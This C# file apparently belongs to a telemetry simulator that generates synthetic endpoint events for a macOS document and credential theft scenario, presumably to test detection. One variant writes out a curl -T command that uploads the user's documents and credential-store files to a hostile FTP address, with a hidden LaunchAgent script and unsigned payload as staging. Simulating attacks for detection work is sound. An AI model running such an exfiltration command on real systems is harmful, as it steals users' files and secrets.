using Vigil.Contracts.Telemetry;
using Vigil.FleetSim.Activities;
using Vigil.FleetSim.Endpoint;

namespace Vigil.FleetSim.Scenarios;

/// <summary>
/// AN0425 attack: a script or binary that is not a browser opens documents and credential stores, then connects out
/// over plain HTTP (80/8080) or FTP (21) from the same process. Evidence: the last file opened before the
/// connection (a newer partial replaces an older one), then the connection.
/// </summary>
internal static class DocumentExfiltration
{
    public static IEnumerable<TelemetryEvent> Run(ActivityContext c)
    {
        var variant = c.Rng.Next(3);
        var hidden = $"{c.Home}/Library/Application Support/.{Adversary.DisguisedName(c)}";
        var files = PickFiles(c);
        var port = variant switch { 0 => c.Rng.Chance(0.5) ? 80 : 8080, 1 => 80, _ => 21 };
        var peer = NetworkPeer.Address(Internet.HostileAddress(c.Rng), port);
        var protocol = Adversary.ProtocolForPort(port);

        SimProcess? bash = null;
        if (variant == 2)
        {
            // A LaunchAgent script hands the files to curl -T, which opens each one it uploads over FTP.
            var syncScript = $"{hidden}/sync.sh";
            bash = c.Spawn(c.Launchd, Images.Bash, ["/bin/bash", syncScript], c.Home, c.User);
            yield return c.Exec(bash);
            c.WaitMillis(2, 30);
            yield return c.LoadScript(bash, syncScript);
            c.WaitMillis(20, 400);
        }

        var script = variant == 0 ? $"{hidden}/collect.py" : null;
        var binary = ExecutableImage.UnsignedAt($"{hidden}/{Adversary.PayloadName(c)}");
        var stealer = variant switch
        {
            0 => c.Spawn(c.Launchd, Images.Python3, ["python3", script!], c.Home, c.User),
            1 => c.Spawn(c.Launchd, binary, [binary.Path], "/", c.User),
            _ => c.Spawn(bash!, Images.Curl, ["curl", "-s", "-T", $"{{{string.Join(',', files)}}}", $"ftp://{peer.Ip}/upload/", "--user", "anonymous:"]),
        };
        yield return c.Exec(stealer);
        if (script is not null)
        {
            c.WaitMillis(5, 60);
            yield return c.LoadScript(stealer, script);
        }

        long total = 0;
        for (var i = 0; i < files.Count; i++)
        {
            c.WaitMillis(5, 1500);
            var size = UserFiles.SizeOf(c, files[i]);
            total += size;
            var open = c.OpenFile(stealer, files[i], size);
            yield return i == files.Count - 1 ? c.Evidence(open) : open;
        }

        c.WaitMillis(100, 4000);
        var connection = c.Connect(stealer, peer, protocol);
        yield return c.Evidence(c.ConnectionAttempted(connection));
        c.Wait(Traffic.TransferTime(c, total));
        yield return c.Disconnected(connection, total + c.Rng.Between(500L, 4_000L), c.Rng.Between(200L, 2_000L));
        c.WaitMillis(5, 300);
        yield return c.Exit(stealer);
        if (bash is not null)
        {
            yield return c.Exit(bash);
        }

        c.Describe($"{stealer.Name} ({stealer.Executable}) reads {files.Count} documents and credential stores, then sends {total} bytes over {protocol} to {peer.Ip}:{port}");
    }

    private static List<string> PickFiles(ActivityContext c)
    {
        var count = c.Rng.Between(3, 7);
        var files = new List<string>();
        while (files.Count < count)
        {
            var relative = c.Rng.Chance(0.5) ? c.Rng.Pick(UserFiles.Documents) : c.Rng.Pick(UserFiles.Secrets);
            var path = $"{c.Home}/{relative}";
            if (!files.Contains(path))
            {
                files.Add(path);
            }
        }

        return files;
    }
}
